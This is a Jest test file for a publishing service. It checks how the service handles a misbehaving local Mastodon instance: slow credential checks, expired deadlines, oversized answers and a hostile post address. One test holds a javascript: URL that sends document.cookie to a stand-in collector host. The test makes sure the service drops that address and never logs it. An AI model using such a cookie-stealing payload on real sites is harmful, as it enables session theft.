import { Logger } from '@nestjs/common';
import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { ServiceError } from '@app/contracts';
import { MastodonApiServer } from '@test/providers/mastodon/mastodon-api-server';
import { behindFaultProxy, ProxiedPlatform } from '@test/providers/support/fault-proxy';
import { CONNECT_REPLY_MARGIN_MS } from '../src/accounts/connect-account/connect-deadline';
import { account, PublisherHarness } from './publisher-harness';

jest.setTimeout(30_000);

/** The publisher and a local Mastodon instance that answers slowly, too much, or what must not be kept (through a proxy that answers what a test asks). */
describe('the publisher and a Mastodon that misbehaves', () => {
  let harness: PublisherHarness;
  let local: ProxiedPlatform<MastodonApiServer>;
  let nextAccount = 900;
  /** How long the instance takes to check an access token. */
  let checkTakesMs = 0;

  beforeAll(async () => {
    local = await behindFaultProxy(await MastodonApiServer.start(), async (path) => {
      if (path.includes('verify_credentials')) await sleep(checkTakesMs);
      return null;
    });
    harness = await PublisherHarness.start({ allowPrivateUrls: true });
  });
  afterAll(async () => {
    await harness?.close();
    await local?.stop();
  });

  const storedIds = async (accountId: number) => harness.tables.db.selectFrom('accounts').select('account_id').where('account_id', '=', accountId).execute();
  /**
   * Whichever ends the check first, the connect's deadline or the platform call's (which the
   * deadline shortened to the same instant), the answer is the same refusal: not now, nothing kept.
   */
  const outOfTime = { kind: 'unavailable', message: expect.stringMatching(/^The mastodon provider could not check the credentials now: (no answer in time|The platform did not answer in time: no whole answer within \d+ ms)$/) };

  it('answers unavailable in time when the platform checks the credentials more slowly than the deadline allows, and keeps nothing, even once the platform answered; a later connect works', async () => {
    const { platform: mastodon, proxy } = local;
    const token = mastodon.addAccount('bob', 'Bob');
    const accountId = nextAccount++;
    // The call's own deadline (1 s) is later than the time the gateway leaves: 400 ms to check, then the margin.
    checkTakesMs = 800;
    const sentAt = Date.now();

    const error = await harness.connect(accountId, 'mastodon', { instance: proxy.url }, { access_token: token }, sentAt + 400 + CONNECT_REPLY_MARGIN_MS).catch((caught: unknown) => caught);

    expect((error as ServiceError).toBody?.()).toEqual(outOfTime);
    expect(Date.now() - sentAt).toBeLessThan(400 + 400);
    await sleep(checkTakesMs + 300);
    expect(await storedIds(accountId)).toEqual([]);

    checkTakesMs = 0;
    expect(await harness.connect(accountId, 'mastodon', { instance: proxy.url }, { access_token: token }, Date.now() + 10_000)).toMatchObject({ authorized: true, name: 'Bob' });
    expect(await storedIds(accountId)).toEqual([{ account_id: accountId }]);
  });

  it('refuses a request whose deadline has passed without calling the platform, and keeps nothing', async () => {
    const { platform: mastodon, proxy } = local;
    const accountId = nextAccount++;
    const calls = proxy.seen.length;

    const error = await harness.connect(accountId, 'mastodon', { instance: proxy.url }, { access_token: mastodon.addAccount('carol', 'Carol') }, Date.now() - 1).catch((caught: unknown) => caught);

    expect((error as ServiceError).toBody?.()).toEqual(outOfTime);
    expect(proxy.seen.length).toBe(calls);
    expect(await storedIds(accountId)).toEqual([]);
  });

  it('refuses a deadline that is not a time', async () => {
    const error = await harness.connect(nextAccount++, 'sandbox', {}, {}, 'soon' as unknown as number).catch((caught: unknown) => caught);
    expect((error as ServiceError).toBody?.()).toEqual({ kind: 'validation', message: 'Validation errors.', errors: { deadline: ['The deadline field must be an integer.'] } });
  });

  it('refuses an instance whose answer is over the size limit, naming the instance, and keeps nothing', async () => {
    const { platform: mastodon, proxy } = local;
    proxy.failNext(/verify_credentials/, { answer: { status: 200, body: { username: 'alice', padding: 'a'.repeat(5 * 1024 * 1024) } } });
    const accountId = nextAccount++;

    const error = await harness.connect(accountId, 'mastodon', { instance: proxy.url }, { access_token: mastodon.addAccount('alice', 'Alice') }).catch((caught: unknown) => caught);

    expect((error as ServiceError).toBody()).toEqual({
      kind: 'validation',
      message: 'Validation errors.',
      errors: { 'settings.instance': ["The platform's answer is larger than 4 MiB."] },
    });
    expect(await storedIds(accountId)).toEqual([]);
  });

  it('keeps the address a platform gives for a published post only when it is a web address: a javascript: one is dropped, with a warning that does not repeat it', async () => {
    const { platform: mastodon, proxy } = local;
    const accountId = nextAccount++;
    await harness.connect(accountId, 'mastodon', { instance: proxy.url }, { access_token: mastodon.addAccount('dave', 'Dave') });
    const address = 'javascript:fetch("https://collector.example/?c="+document.cookie)';
    proxy.failNext(/^\/api\/v1\/statuses$/, { answer: { status: 200, body: { id: '4242', url: address, uri: address, content: '<p>Hello</p>', visibility: 'public' } } });
    const warn = jest.spyOn(Logger.prototype, 'warn');
    const postUuid = randomUUID();

    try {
      await harness.startPublishing(postUuid, 1, [account(accountId, 'mastodon')]);
      expect(await harness.resultsOf(postUuid, 1)).toEqual([expect.objectContaining({ accountId, outcome: 'published', externalId: '4242', externalUrl: null, errors: [] })]);
      const warnings = warn.mock.calls.map(([message]) => String(message));
      expect(warnings).toContainEqual(expect.stringMatching(/^mastodon gave an address of post .+ that is not a web address \(the scheme javascript:\); it is not kept$/));
      expect(warnings.join('\n')).not.toContain('document.cookie');
    } finally {
      warn.mockRestore();
    }

    const second = randomUUID();
    await harness.startPublishing(second, 1, [account(accountId, 'mastodon')]);
    expect(await harness.resultsOf(second, 1)).toEqual([expect.objectContaining({ outcome: 'published', externalUrl: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/@dave\/\d+$/) })]);
  });
});
